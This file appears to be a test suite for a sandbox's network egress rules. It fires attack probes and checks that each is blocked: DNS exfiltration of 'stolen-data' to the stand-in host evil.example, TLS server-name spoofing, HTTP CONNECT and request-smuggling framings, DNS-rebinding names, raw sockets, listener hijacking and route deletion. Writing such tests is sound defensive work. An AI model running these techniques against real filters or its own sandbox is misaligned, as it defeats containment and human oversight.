"""Attacks on network rules, for one cell: it prints the verdict of each as JSON.

The rules allow ok.test, other.test, *.wild.test, metadata.test, intern.test and mapped.test.
"""

from __future__ import annotations

from egress_servers import ADDRESS

#: Runs in the session. Each function is an attack, and its result is compared with ``EXPECTED``.
CODE = r"""
import json, os, socket, ssl, struct, urllib.error, urllib.request

def ask(name, kind=1, server="127.0.0.1", tcp=False):
    labels = name if isinstance(name, list) else [part.encode() for part in name.split(".")]
    raw = b"".join(bytes([len(one)]) + one for one in labels) + b"\0"
    query = struct.pack("!HHHHHH", 7, 256, 1, 0, 0, 0) + raw + struct.pack("!HH", kind, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as sock:
        sock.settimeout(5)
        sock.connect((server, 53))
        sock.send((struct.pack("!H", len(query)) if tcp else b"") + query)
        answer = sock.recv(1500)[2 if tcp else 0:]
    flags, _, answers = struct.unpack_from("!HHH", answer, 2)
    return f"code {flags & 15}, answers {answers}"

def first_bytes(host, port, data):
    try:
        with socket.create_connection((host, port), 5) as sock:
            sock.sendall(data)
            got = sock.recv(4096)
    except OSError as error:
        return type(error).__name__
    return f"alert {got[6]}" if got[:1] == b"\x15" else got.split(b"\r\n")[0].decode("latin-1")

def hello(name):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    outgoing = ssl.MemoryBIO()
    tls = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=name)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()

def handshake(host, name):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        with socket.create_connection((host, 443), 5) as sock, context.wrap_socket(sock, server_hostname=name):
            return "connected"
    except OSError as error:
        return type(error).__name__

def encrypted_hello():
    data = hello("ok.test")
    body = data[9:]
    at = 34 + 1 + body[34]
    at += 2 + int.from_bytes(body[at:at + 2])
    at += 1 + body[at]
    extensions = body[at + 2:] + struct.pack("!HH", 0xFE0D, 4) + b"abcd"
    body = body[:at] + struct.pack("!H", len(extensions)) + extensions
    body = b"\x01" + len(body).to_bytes(3) + body
    return struct.pack("!BHH", 22, 0x0301, len(body)) + body

def refusal(make):
    try:
        make()
    except OSError as error:
        return type(error).__name__
    return "allowed"

def udp(address, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(5)
        sock.connect((address, port))
        sock.send(b"x")
        sock.recv(10)

def bind(address, port, reuse=False):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        if reuse:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        sock.bind((address, port))
        sock.listen()

def delete_route():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as link:
        body = struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 255, 3, 254, 2, 0) + struct.pack("=HHI", 8, 4, 1)
        link.sendto(struct.pack("=IHHII", 16 + len(body), 25, 5, 1, 0) + body, (0, 0))
        number = -struct.unpack_from("=i", link.recv(65536), 16)[0]
        if number:
            raise OSError(number, os.strerror(number))

def follow(path):
    try:
        return urllib.request.urlopen("http://ok.test" + path, timeout=10).status
    except urllib.error.URLError as error:
        return error.reason.strerror

http = lambda *lines: ("\r\n".join(lines) + "\r\n\r\n").encode()
get = lambda host: http("GET /attack HTTP/1.1", f"Host: {host}", "Connection: close")

verdicts = {
    "data in a name": ask("stolen-data.evil.example"),
    "data in a name to another resolver": ask("stolen-data.evil.example", server="8.8.8.8"),
    "data in a name over TCP": ask("stolen-data.evil.example", tcp=True),
    "data in a name of a rule's suffix": ask("ok.test.evil.example"),
    "TXT of an allowed name": ask("ok.test", kind=16),
    "AAAA of an allowed name": ask("ok.test", kind=28),
    "HTTPS record, with keys for ECH": ask("ok.test", kind=65),
    "a label with NUL": ask([b"evil.example\0", b"wild", b"test"]),
    "a label with a dot": ask([b"x.wild", b"test"]),
    "apex of a wildcard": ask("wild.test"),
    "server name of another rule": first_bytes("ok.test", 443, hello("other.test")),
    "server name without a rule": first_bytes("ok.test", 443, hello("evil.example")),
    "server name with a final dot": first_bytes("ok.test", 443, hello("ok.test.")),
    "encrypted hello": first_bytes("ok.test", 443, encrypted_hello()),
    "address with an allowed server name": first_bytes("8.8.8.8", 443, hello("ok.test")),
    "address of IPv6 with an allowed server name": first_bytes("2606:4700::1111", 443, hello("ok.test")),
    "the server's own address": first_bytes("127.77.0.1", 443, hello("ok.test")),
    "address as a number": first_bytes("2130706433", 80, get("ok.test")),
    "mapped address": first_bytes("::ffff:10.0.0.1", 80, get("ok.test")),
    "an unused synthetic address": first_bytes("198.18.0.77", 443, hello("ok.test")),
    "not TLS": first_bytes("ok.test", 443, b"SSH-2.0-x\r\n" * 3),
    "no server name": handshake("ok.test", None),
    "a rebound name: metadata": first_bytes("metadata.test", 80, get("metadata.test")),
    "a rebound name: private": first_bytes("intern.test", 443, hello("intern.test")),
    "a rebound name: mapped": first_bytes("mapped.test", 80, get("mapped.test")),
    "Host of another rule": first_bytes("ok.test", 80, get("other.test")),
    "Host with a user": first_bytes("ok.test", 80, get("a@ok.test")),
    "absolute target": first_bytes("ok.test", 80, http("GET http://evil.example/ HTTP/1.1", "Host: ok.test")),
    "CONNECT": first_bytes("ok.test", 80, http("CONNECT evil.example:22 HTTP/1.1", "Host: ok.test")),
    "two framings": first_bytes("ok.test", 80, http("POST / HTTP/1.1", "Host: ok.test", "Content-Length: 3",
                                                    "Transfer-Encoding: chunked")),
    "another port": refusal(lambda: socket.create_connection(("ok.test", 22), 5)),
    "QUIC": refusal(lambda: udp("8.8.8.8", 443)),
    "a redirect to a name without a rule": follow("/redirect-out"),
    "ping socket": refusal(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1)),
    "bind to a rule's port above 1023": refusal(lambda: bind("127.0.0.1", 8765)),
    "join its listener": refusal(lambda: bind("0.0.0.0", 8765, reuse=True)),
    "raw socket": refusal(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)),
    "packet socket": refusal(lambda: socket.socket(17, socket.SOCK_RAW, 0)),
    "bind to 443": refusal(lambda: bind("0.0.0.0", 443)),
    "bind to one address of 443": refusal(lambda: bind("127.0.0.1", 443)),
    "join the listener": refusal(lambda: bind("0.0.0.0", 443, reuse=True)),
    "delete the route": refusal(delete_route),
    "own server": refusal(lambda: bind("127.0.0.1", 8000)),
}
print(json.dumps(verdicts))
""".replace("127.77.0.1", ADDRESS)

_NOTHING = "code 3, answers 0"
_NO_DATA = "code 0, answers 0"
_DENIED = "alert 49"
_FORBIDDEN = "HTTP/1.1 403 Forbidden"

EXPECTED = {
    "data in a name": _NOTHING,
    "data in a name to another resolver": _NOTHING,
    "data in a name over TCP": _NOTHING,
    "data in a name of a rule's suffix": _NOTHING,
    "TXT of an allowed name": _NO_DATA,
    "AAAA of an allowed name": _NO_DATA,
    "HTTPS record, with keys for ECH": _NO_DATA,
    "a label with NUL": _NOTHING,
    "a label with a dot": _NOTHING,
    "apex of a wildcard": _NOTHING,
    "server name of another rule": _DENIED,
    "server name without a rule": _DENIED,
    "server name with a final dot": _DENIED,
    "encrypted hello": _DENIED,
    "address with an allowed server name": _DENIED,
    "address of IPv6 with an allowed server name": _DENIED,
    "the server's own address": _DENIED,
    "address as a number": _FORBIDDEN,
    "mapped address": _FORBIDDEN,
    "an unused synthetic address": _DENIED,
    "not TLS": "alert 80",
    "no server name": "connected",
    "a rebound name: metadata": _FORBIDDEN,
    "a rebound name: private": _DENIED,
    "a rebound name: mapped": _FORBIDDEN,
    "Host of another rule": _FORBIDDEN,
    "Host with a user": _FORBIDDEN,
    "absolute target": _FORBIDDEN,
    "CONNECT": _FORBIDDEN,
    "two framings": "HTTP/1.1 400 Bad Request",
    "another port": "ConnectionRefusedError",
    "QUIC": "ConnectionRefusedError",
    "a redirect to a name without a rule": "Name or service not known",
    "ping socket": "OSError",
    "bind to a rule's port above 1023": "OSError",
    "join its listener": "OSError",
    "raw socket": "PermissionError",
    "packet socket": "OSError",
    "bind to 443": "PermissionError",
    "bind to one address of 443": "PermissionError",
    "join the listener": "PermissionError",
    "delete the route": "PermissionError",
    "own server": "allowed",
}
